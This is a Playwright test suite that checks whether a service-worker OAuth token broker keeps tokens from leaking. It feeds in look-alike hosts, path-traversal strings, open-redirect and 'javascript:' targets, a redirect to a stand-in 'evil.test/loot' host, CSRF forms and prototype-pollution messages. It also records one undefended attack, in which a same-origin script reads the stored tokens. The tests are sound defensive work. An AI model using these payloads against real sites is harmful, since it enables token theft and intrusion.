// Each test is named after the threat in the table of SECURITY.md. Other rows have specs of their own: identity.spec.ts
// (one user's …), one-refresh.spec.ts (a refresh token sent twice), cookie-mode.spec.ts (token endpoint by CSRF),
// oauth-callback.spec.ts (forged, repeated or mixed-up callback), oauth-dpop.spec.ts (stolen DPoP-bound token).
import { realTokens, test } from './oauth/attacker.ts'
import { enterName, expect, history, logIn } from './oauth/test.ts'
import { everythingStored, secretOf } from './stored.ts'
import type { OAuthServer } from './oauth/server.ts'

test.describe('token sent to a look-alike host', () => {
  test('only the listed origin and path get it', async ({ tab, server, strangers }) => {
    const { port } = strangers
    const api = `http://api.example.test:${port}`
    server.deploy({ broker: { protect: ['/oauth/api/', `${api}/v1/`] } })
    await tab.goto(server.url)
    await tab.page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.update())
    await logIn(tab, server)
    const lookAlikes = [
      `http://api.example.test.evil.test:${port}/v1/x`,
      `http://api.example.test:${port}@evil.test:${port}/v1/x`,
      `http://evil.test:${port}/v1/x?http://api.example.test:${port}/v1/`,
      `http://evil.test:${port}/${api}/v1/x`,
      `http://api-example.test:${port}/v1/x`,
      `http://api.example.test.:${port}/v1/x`,
      `http://xn--pi-6kc.example.test:${port}/v1/x`,
      `http://аpi.example.test:${port}/v1/x`,
      `${api}/v10/x`,
      `${api}/v1/../secret`,
      `${api}/v1/%2e%2e/secret`,
      `${api}/v1%2Fx`,
      `${api}\\v1\\..\\secret`,
      `${api}/V1/x`,
      `${server.url.replace('localhost', 'localhost.evil.test').replace(/:\d+$/, `:${port}`)}/oauth/api/echo`,
    ]
    await tab.calls(lookAlikes)
    await tab.call(`${api}/v1/x`)

    const withToken = strangers.heard.filter(({ authorization }) => authorization !== undefined)
    expect(withToken.map(({ host, path }) => host + path)).toEqual([`api.example.test:${port}/v1/x`])
    expect(strangers.heard.length).toBeGreaterThan(lookAlikes.length - 3)
  })

  test('an encoded slash or backslash does not leave the listed path', async ({ tab, server }) => {
    await logIn(tab, server)
    await tab.calls(['/oauth/api/..%2f..%2forders', '/oauth/api/%5c..%5corders', '/oauth/api/../../orders'])
    // The last is `/orders` before the worker sees it, and no call of the API.
    expect(server.api.calls.map(({ path }) => path)).toEqual([
      '/oauth/api/..%2f..%2forders',
      '/oauth/api/%5c..%5corders',
    ])
  })
})

test('token carried off by a redirect', async ({ tab, server, strangers }) => {
  await logIn(tab, server)
  const to = encodeURIComponent(`http://evil.test:${strangers.port}/loot`)
  await tab.call(`/oauth/api/redirect?to=${to}`)
  await tab.call(`/oauth/api/redirect?to=${to}`, { method: 'POST', body: 'x' })
  await tab.page.evaluate(
    (src) =>
      new Promise((resolve) => {
        const image = new Image()
        image.onload = image.onerror = resolve
        image.src = src
      }),
    `/oauth/api/redirect?to=${to}`,
  )
  expect(server.api.calls.map(({ scheme }) => scheme)).toContain('Bearer')
  expect(strangers.heard.map(({ authorization }) => authorization)).not.toContainEqual(expect.any(String))
})

for (const target of [
  'https://evil.example/',
  '//evil.example/',
  '/\\evil.example',
  'javascript:alert(1)',
  '/\t/evil.example',
])
  test(`login or logout that ends at a stranger's: return_to=${target}`, async ({ tab, server }) => {
    const query = `return_to=${encodeURIComponent(target)}`
    await tab.page.goto(`${server.url}/auth/logout?${query}`)
    await tab.page.waitForURL(`${server.url}/`)
    await tab.page.goto(`${server.url}/auth/login?${query}`)
    await enterName(tab.page)
    await tab.page.waitForURL(`${server.url}/`)
  })

test('cross-site navigation or form to the API (CSRF)', async ({ tab, server, strangers }) => {
  await logIn(tab, server)
  strangers.html = `<form method="post" action="${server.url}/oauth/api/echo?form"><input name="amount" value="1"></form>
    <a href="${server.url}/oauth/api/echo?link">a</a>`
  for (const act of [
    () => document.forms[0]?.submit(),
    () => document.querySelector('a')?.click(),
  ] as const) {
    await tab.page.goto(`http://evil.test:${strangers.port}/page`)
    const answered = tab.page.waitForResponse((response) => response.url().includes('/oauth/api/echo'))
    await tab.page.evaluate(act)
    expect((await answered).status()).toBe(401)
    await tab.page.waitForURL('**/oauth/api/echo?*')
  }
  expect(server.api.calls.map(({ scheme }) => scheme)).toEqual(['', ''])
})

test.describe('a page that asks for the token', () => {
  test('by messages, reserved paths, caches, entries, errors: gets none', async ({
    tab,
    openTab,
    server,
  }) => {
    await logIn(tab, server)
    const other = await openTab()
    const tokens = await realTokens(tab)
    const replies = await tab.page.evaluate(async () => {
      const envelope = { v: 1, source: 'sw-token-broker', name: 'default' }
      const types = ['get-session', 'get-token', 'nudge', 'claim', 'stay', 'refresh', 'get-tokens']
      const answers: unknown[] = []
      for (const type of types) {
        const { port1, port2 } = new MessageChannel()
        const answer = new Promise((resolve) => {
          port1.onmessage = ({ data }) => resolve(data)
          setTimeout(resolve, 500, 'silence')
        })
        navigator.serviceWorker.controller?.postMessage({ ...envelope, type, online: true }, [port2])
        answers.push(await answer)
      }
      return answers
    })
    const answers = await tab.calls([
      '/auth/login',
      '/auth/callback?code=x&state=y',
      '/auth/logout',
      '/oauth/api/echo',
      '/oauth/api/always-401',
      '/oauth/api/step-up',
    ])
    const readable = JSON.stringify([
      replies,
      answers,
      await tab.messages(),
      await other.messages(),
      await tab.page.evaluate(() => window.harness.events),
      await tab.page.evaluate(async () => ({
        entries: performance.getEntries().map((entry) => entry.toJSON()),
        navigation: performance.getEntriesByType('navigation').map((entry) => entry.toJSON()),
        referrer: document.referrer,
        address: location.href,
      })),
      { ...(await everythingStored(tab.page)), records: [] },
      await history(tab.page),
      server.api.calls.map(({ path }) => path),
    ])

    tokens.push(...(await realTokens(tab)))
    expect(tokens.length).toBeGreaterThanOrEqual(6)
    for (const token of tokens) expect(readable).not.toContain(secretOf(token))
    expect(await tab.session()).toMatchObject({ status: 'active' })
  })

  test('by polluted messages: changes nothing', async ({ tab, server }) => {
    await logIn(tab, server)
    await tab.page.evaluate(() => {
      const polluted: unknown[] = [
        JSON.parse('{"v":1,"source":"sw-token-broker","name":"default","__proto__":{"type":"logout"}}'),
        JSON.parse(
          '{"v":1,"source":"sw-token-broker","name":"default","type":"__proto__","constructor":{"prototype":{"polluted":1}}}',
        ),
        JSON.parse('{"v":1,"source":"sw-token-broker","name":"__proto__","type":"logout"}'),
        JSON.parse('{"v":1,"source":"sw-token-broker","name":"default","type":["logout"]}'),
      ]
      for (const message of polluted)
        navigator.serviceWorker.controller?.postMessage(message, [new MessageChannel().port2])
    })
    expect(await tab.session()).toMatchObject({ status: 'active' })
    expect((await tab.call('/oauth/api/echo')).status).toBe(200)
  })
})

test('spoofed messages to the other tabs', async ({ tab, openTab, server }) => {
  await logIn(tab, server)
  const other = await openTab()
  await tab.page.evaluate(() => {
    for (const name of ['sw-token-broker:default', 'sw-token-broker', 'default']) {
      const channel = new BroadcastChannel(name)
      channel.postMessage({ v: 1, source: 'sw-token-broker', name: 'default', type: 'logged-out' })
      channel.postMessage('changed')
      channel.postMessage({ session: { status: 'active', tokens: { accessToken: 'attacker’s' } } })
      channel.close()
    }
  })
  expect(await other.events('login-required')).toEqual([])
  expect((await other.call('/oauth/api/echo')).body).toMatchObject({ user: 'alice' })
})

test('a code or token in an address, a log or a Referer', async ({ context, tab, server, strangers }) => {
  const printed: string[] = []
  for (const worker of context.serviceWorkers())
    worker.on('console', (message) => printed.push(message.text()))
  tab.page.on('console', (message) => printed.push(message.text()))
  const addresses: string[] = []
  tab.page.on('framenavigated', (frame) => addresses.push(frame.url()))
  await tab.page.click('#login')
  await enterName(tab.page)
  await tab.page.waitForURL(`${server.url}/orders`)
  await tab.ready()
  await tab.call('/oauth/api/echo')
  await tab.call(`http://evil.test:${strangers.port}/pixel`)
  await tab.call('/auth/refresh')

  const tokens = await realTokens(tab)
  const seen = JSON.stringify([printed, addresses, strangers.heard, server.requests()])
  expect(strangers.heard).toHaveLength(1)
  for (const token of tokens) expect(seen).not.toContain(secretOf(token))
  expect(JSON.stringify([addresses, strangers.heard, server.requests()])).not.toMatch(/[?&]code=/)
})

test('token endpoint called by the page', async ({ tab, server }) => {
  await logIn(tab, server)
  const answer = await tab.call(`${server.provider.url}/token`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: 'grant_type=refresh_token&client_id=demo-app&refresh_token=held-by-sw-token-broker-x',
  })
  // The provider answers the page as it would anybody: the broker adds nothing.
  expect(answer).toMatchObject({ status: 400, body: { error: 'invalid_grant' } })
  expect(await tab.session()).toMatchObject({ status: 'active' })
})

test.describe('not defended: a script of the origin', () => {
  const useElsewhere = async (server: OAuthServer, token: string, scheme = 'Bearer') =>
    (await fetch(`${server.url}/oauth/api/echo`, { headers: { Authorization: `${scheme} ${token}` } })).status

  test('reads the tokens from IndexedDB in the default mode, and they work anywhere', async ({
    tab,
    server,
  }) => {
    await logIn(tab, server)
    const [accessToken = ''] = await realTokens(tab)
    expect(await useElsewhere(server, accessToken)).toBe(200)
  })

  test('uses the API through the worker as long as it runs', async ({ tab, server }) => {
    await logIn(tab, server)
    expect((await tab.call('/oauth/api/echo', { method: 'DELETE' })).status).toBe(200)
  })
})
